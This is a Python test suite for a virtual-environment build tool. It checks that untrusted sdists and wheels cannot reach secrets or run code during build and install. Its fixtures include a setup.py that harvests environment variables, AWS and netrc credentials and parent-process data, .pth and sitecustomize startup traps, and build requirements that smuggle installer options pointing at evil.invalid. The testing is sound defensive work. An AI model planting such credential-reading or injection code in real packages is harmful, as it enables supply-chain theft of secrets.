"""What a package can reach while it is resolved, built, installed and inspected: exactly what docs/security.md says."""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.support import real_pip
from tests.support.index_server import PASSWORD, USER
from tests.support.tool import Ended, Tool
from tests.support.wheels import sdist, wheel

AWS_KEY = "wJalrXUtnFEMI-canary/K7MDENG+bPxRfiCY"
TOKEN = "canary-token-5f3a9c/with space"
CANARIES = (PASSWORD, AWS_KEY, TOKEN)

SPY = """\
import json, os, pathlib, sys
ppid = os.getppid()
def text(path):
    try:
        return pathlib.Path(path).read_text(errors="replace")
    except OSError as error:
        return "unreadable: %s" % error.__class__.__name__
found = {
    "environ": dict(os.environ), "argv": sys.argv, "home": os.path.expanduser("~"),
    "aws": text(os.path.expanduser("~/.aws/credentials")), "netrc": text(os.path.expanduser("~/.netrc")),
    "parent": text("/proc/%d/environ" % ppid), "parent_argv": text("/proc/%d/cmdline" % ppid),
}
pathlib.Path(SPY_FILE).write_text(json.dumps(found))
from setuptools import setup
setup(name="spy", version="1.0", py_modules=["spy"])
"""


@pytest.fixture
def tool(tool: Tool, tmp_path: Path) -> Tool:
    """A user with secrets in every usual place."""
    home = tmp_path / "home of the user"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws/credentials").write_text(f"[default]\naws_secret_access_key = {AWS_KEY}\n")
    (home / ".netrc").write_text(f"machine 127.0.0.1 login {USER} password {PASSWORD}\n")
    (home / ".netrc").chmod(0o600)
    tool.env.update(
        HOME=str(home),
        AWS_SECRET_ACCESS_KEY=AWS_KEY,
        DEPLOY_TOKEN=TOKEN,
        VENVBUILD_INDEX_URL=tool.index.url_with_credentials,
    )
    return tool


def spy(tool: Tool, code: str = SPY) -> Path:
    """An sdist that writes down what it sees, or does as `code` says, and a setuptools to build it with."""
    seen = tool.folder / "seen.json"
    sdist(tool.index.folder, "spy", "1.0", setup_py=code.replace("SPY_FILE", repr(str(seen))), files={"spy.py": ""})
    fake = """\
import os, sys, zipfile
def setup(**k): pass
"""
    backend = """\
import runpy, zipfile, pathlib
def build_wheel(directory, config_settings=None, metadata_directory=None):
    runpy.run_path("setup.py", run_name="__main__")
    name = "spy-1.0-py3-none-any.whl"
    with zipfile.ZipFile(str(pathlib.Path(directory, name)), "w") as made:
        made.writestr("spy.py", "")
        made.writestr("spy-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: spy\\nVersion: 1.0\\n")
        made.writestr("spy-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        names = ["spy.py", *("spy-1.0.dist-info/" + name for name in ("METADATA", "WHEEL", "RECORD"))]
        made.writestr("spy-1.0.dist-info/RECORD", "".join(name + ",,\\n" for name in names))
    return name
"""
    files = {"setuptools/__init__.py": fake, "setuptools/build_meta.py": backend}
    wheel(tool.index.folder, "setuptools", "70.0", files={**files, "setuptools/__legacy__.py": ""})
    pyproject = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    sdist(tool.index.folder, "spy", "1.0", setup_py=code.replace("SPY_FILE", repr(str(seen))), pyproject=pyproject,
          files={"spy.py": ""})  # fmt: skip
    return seen


def forms(secret: str) -> set[bytes]:
    """The secret plain, URL-encoded and in base64, alone and as `user:password`."""
    texts = {secret, quote(secret, safe="")}
    texts |= {base64.b64encode(one.encode()).decode() for one in (secret, f"{USER}:{secret}")}
    return {text.encode() for text in texts}


def assert_no_canary(tool: Tool, done: Ended) -> None:
    said = (done.stdout + done.stderr).encode()
    paths = [path for folder in (tool.work, Path(tool.store)) for path in folder.rglob("*") if path.is_file()]
    for canary in CANARIES:
        for form in forms(canary):
            assert form not in said
            assert not [path for path in paths if form in path.read_bytes()], form


def test_an_sdist_is_not_built_unless_it_is_allowed(tool: Tool) -> None:
    seen = spy(tool)
    done = tool.build("spy==1.0")
    assert done.code == 4
    assert not seen.exists()


def test_the_code_of_an_allowed_sdist_finds_no_secret_in_environment_argv_home_or_parent(tool: Tool) -> None:
    seen = spy(tool)
    done = tool.run(
        "build", "--json", "-r", tool.requirements("spy==1.0"), "--allow-sdist", "spy", "--work-dir", tool.work
    )
    assert done.code == 0, done.stderr
    found = json.loads(seen.read_text())
    for canary in CANARIES:
        assert canary not in seen.read_text()
    assert found["aws"] == found["netrc"] == "unreadable: FileNotFoundError"
    assert found["home"] != tool.env["HOME"]
    assert not [name for name in found["environ"] if name.startswith(("AWS_", "VENVBUILD_", "PIP_")) or "TOKEN" in name]
    assert done.json["reproducible"] is False
    assert_no_canary(tool, done)


def test_an_sdist_that_was_built_is_installed_by_pip_as_well(tool: Tool) -> None:
    spy(tool)
    real_pip.put_into(tool.index.folder, "3.11")
    done = tool.run(
        "build", "--json", "-r", tool.requirements("spy==1.0"), "--allow-sdist", "Spy", "--installer", "pip"
    )
    assert done.code == 0, done.stderr
    assert "spy==1.0" in done.json["installed_packages"]


def test_a_wheel_is_preferred_although_the_sdist_is_allowed(tool: Tool) -> None:
    seen = spy(tool)
    wheel(tool.index.folder, "spy", "1.0")
    done = tool.run("build", "--json", "-r", tool.requirements("spy==1.0"), "--allow-sdist", "spy")
    assert done.code == 0, done.stderr
    assert done.json["reproducible"] is True
    assert not seen.exists()


@pytest.mark.parametrize(
    "requires", ["-r /etc/hostname", "--extra-index-url http://evil.invalid/", "x @ http://evil.invalid/x.whl"]
)
def test_an_sdist_cannot_steer_the_installer_by_what_it_is_built_with(tool: Tool, requires: str) -> None:
    pyproject = f'[build-system]\nrequires = ["{requires}"]\nbuild-backend = "x"\n'
    sdist(tool.index.folder, "sly", "1.0", pyproject=pyproject)
    done = tool.run("build", "--json", "-r", tool.requirements("sly==1.0"), "--allow-sdist", "sly")
    assert done.code == 4, done.stderr
    assert "no plain requirement" in done.json["error"]["problems"][0]["what"]


def test_allow_sdist_wants_a_pin(tool: Tool) -> None:
    wheel(tool.index.folder, "good", "1.0")
    done = tool.run("build", "-r", tool.requirements("good==1.0"), "--allow-sdist", "spy")
    assert done.code == 2
    assert "does not pin" in done.stderr


@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_a_hostile_pth_never_runs(tool: Tool, installer: str) -> None:
    real_pip.put_into(tool.index.folder, "3.11")
    trap = tool.folder / "sprung"
    line = f"import pathlib; pathlib.Path({str(trap)!r}).write_text('sprung')\n"
    wheel(tool.index.folder, "trap", "1.0", files={"trap.pth": line, "sitecustomize.py": line})
    done = tool.build("trap==1.0", VENVBUILD_INSTALLER=installer)
    assert done.code == 0, done.stderr
    assert not trap.exists()


_RUN_AT_START = {
    "trap": "", "-x y": "", "trä": "", "pure": "trap-1.0.data/purelib/", "plat": "trap-1.0.data/platlib/",
    "far": "trap-1.0.data/data/lib/python3.15/site-packages/",
}  # fmt: skip
"""Names of `.start` files that Python 3.15 runs, and from where in a wheel an installer puts them there."""
_READ_BY_NOBODY = (".hidden.start", "trap.START", "below/trap.start", "trap-1.0.dist-info/trap.start")


@pytest.mark.usefixtures("newer_on_path")
@pytest.mark.parametrize(("python", "installer"), [("3.15", "uv"), ("3.15", "pip")])
def test_a_start_file_never_runs_before_its_environment_does(tool: Tool, python: str, installer: str) -> None:
    real_pip.put_into(tool.index.folder, python)
    begun = tool.folder / "begun"
    begun.mkdir()
    code = f"import pathlib\ndef __getattr__(name): return (pathlib.Path({str(begun)!r}) / name[1:]).touch\n"
    starts = {f"{place}{name}.start": name for name, place in _RUN_AT_START.items()}
    files = {path: f"trap:_{starts.get(path, 'nobody').encode().hex()}\n" for path in (*starts, *_READ_BY_NOBODY)}
    files |= {"trap.py": code, "trap.pth": "import no_such_module\n", "other.pth": "import trap; trap._other()\n"}
    wheel(tool.index.folder, "trap", "1.0", files=files)
    tool.env |= {"PYTHON_VERSION": python, "VENVBUILD_INSTALLER": installer}
    ran = [
        tool.run("build", "--json", "-r", tool.requirements("trap==1.0"), "--work-dir", tool.work, "--bytecode"),
        tool.run("inspect", "--work-dir", tool.work, "--again"),
        tool.run("get", "default@latest", "got"),
        tool.run("get", "default@latest", "compiled", "--compile"),
        tool.run("verify", "default@latest"),
    ]
    (tool.folder / f"got/lib/python{python}/site-packages/linked.start").symlink_to("trap.start")
    ran += [
        tool.run("pack", "--venv", "got", "-o", "packed.tar.gz"),
        tool.run("get", "--from-archive", "packed.tar.gz", "again", "--compile"),
    ]
    assert [done.code for done in ran] == [0] * len(ran), [done.stderr for done in ran]
    assert list(begun.iterdir()) == []
    for name in ("got", "compiled", "again"):
        assert len(list((tool.folder / name).rglob("*.start"))) == len(files) - 4 + (name != "compiled")
        subprocess.run([tool.folder / name / "bin/python", "-c", ""], check=True)
        # where its Python starts, it works
        assert {path.name for path in begun.iterdir()} == {"other", *(one.encode().hex() for one in _RUN_AT_START)}
        for path in begun.iterdir():
            path.unlink()


@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_a_hostile_pth_never_runs_where_two_packages_own_a_path_either(tool: Tool, installer: str) -> None:
    real_pip.put_into(tool.index.folder, "3.11")
    trap = tool.folder / "sprung"
    line = f"import pathlib; pathlib.Path({str(trap)!r}).write_text('sprung')\n"
    own = {"shared.py": "of = 'trap'\n", "trap-1.0.data/scripts/tell": "#!python\nimport shared\n"}
    wheel(tool.index.folder, "trap", "1.0", files={"trap.pth": line, "sitecustomize.py": line, **own})
    script = "#!python\nimport shared; print(shared.of, 'of other')\n"
    wheel(tool.index.folder, "other", "1.0", files={"shared.py": "of = 'o'\n", "other-1.0.data/scripts/tell": script})
    script = "#!python\nimport shared; print(shared.of, 'of zeta')\n"
    wheel(tool.index.folder, "zeta", "1.0", files={"zeta-1.0.data/scripts/tell": script})
    pins = tool.requirements("trap==1.0", "other==1.0", "zeta==1.0")
    done = tool.run("build", "-r", pins, "--work-dir", tool.work, VENVBUILD_INSTALLER=installer)
    assert done.code == 0, done.stderr
    assert not trap.exists()
    said = subprocess.run([tool.work / "venv/bin/tell"], check=True, capture_output=True, text=True)
    assert said.stdout == "trap of zeta\n"
    findings = json.loads((tool.work / "conflicts.json").read_text())
    told = [finding["sentence"] for finding in findings]
    assert "other 1.0 and trap 1.0 own the same path: shared.py" in told
    assert not [sentence for sentence in told if "zeta 1.0 is not as its RECORD says" in sentence]


def test_what_an_sdist_does_to_its_build_requirements_comes_into_no_cache(tool: Tool, tmp_path: Path) -> None:
    spy(tool, "import setuptools\nwith open(setuptools.__file__, 'a') as file:\n    file.write('evil = 1\\n')\n")
    env = {"UV_CACHE_DIR": str(tmp_path / "uv-cache"), "TMPDIR": str(tmp_path)}
    done = tool.run("build", "-r", tool.requirements("spy==1.0"), "--allow-sdist", "spy", **env)
    assert done.code == 0, done.stderr
    [cached] = (tmp_path / "uv-cache/archive-v0").rglob("setuptools/__init__.py")
    assert "evil" not in cached.read_text()


def test_secrets_show_up_nowhere_whatever_is_done(tool: Tool) -> None:
    wheel(tool.index.folder, "good", "1.0")
    places = f"http://bob:{TOKEN.replace('/', '').replace(' ', '')}-links@127.0.0.1:{tool.index.port}/links/"
    more = {"VENVBUILD_EXTRA_INDEX_URLS": tool.index.url_with_credentials, "VENVBUILD_FIND_LINKS": places}
    tool.run("build", "--json", "-r", tool.requirements("good==1.0"), "--work-dir", tool.work, **more)
    assert TOKEN.split("/")[0] not in (tool.work / "venvbuild-work.json").read_text()
    done = tool.run("build", "--json", "-r", tool.requirements("good==1.0"), "--work-dir", tool.work)
    assert done.code == 0, done.stderr
    assert_no_canary(tool, done)
    done = tool.run("config")
    assert_no_canary(tool, done)
    done = tool.run("build", "--json", "-r", tool.requirements("nowhere==1.0"), "--work-dir", tool.work)
    assert done.code == 4
    assert_no_canary(tool, done)
    done = tool.run("doctor", "--json")
    assert_no_canary(tool, done)


def test_a_secret_that_a_build_wrote_into_its_wheel_is_stopped_at_the_gate(tool: Tool) -> None:
    wheel(tool.index.folder, "leaky", "1.0", files={"leaky.py": f"key = {AWS_KEY!r}\n"})
    done = tool.build("leaky==1.0")
    assert done.code == 8
    assert done.json["error"]["problems"][0]["what"].endswith("leaky.py holds a secret; the archive is not made")
    assert AWS_KEY not in done.stdout + done.stderr
    assert not Path(tool.store, "venv-builds").exists()


def test_a_wheel_may_hold_any_path_of_its_own(tool: Tool) -> None:
    file = tool.requirements("pathy==1.0")
    wheel(tool.index.folder, "pathy", "1.0", files={"pathy.py": f"home = {str(tool.work)!r}\n"})
    done = tool.run("build", "-r", file, "--work-dir", tool.work)
    assert done.code == 0, done.stderr


@pytest.mark.parametrize(
    ("files", "why"),
    [
        ({"deep/" * 60 + "x.py": ""}, "a path of 300 characters"),
        ({"näme.py": "", "with space.txt": ""}, "names beyond ASCII"),
        ({f"many/f{number}.py": "" for number in range(3000)}, "many files"),
        ({"python.py": "", "bin_python": "", "os.py.txt": ""}, "names of the interpreter"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_odd_files_are_packed_whole(tool: Tool, files: dict[str, str], why: str) -> None:
    import tarfile

    wheel(tool.index.folder, "odd", "1.0", files=files)
    build = tool.build("odd==1.0").json
    with tarfile.open(tool.stored(build["venv_version"]) / f"{build['venv_version']}.tar.gz") as archive:
        names = set(archive.getnames())
    assert {f"venv/lib/python3.11/site-packages/{name}" for name in files} <= names
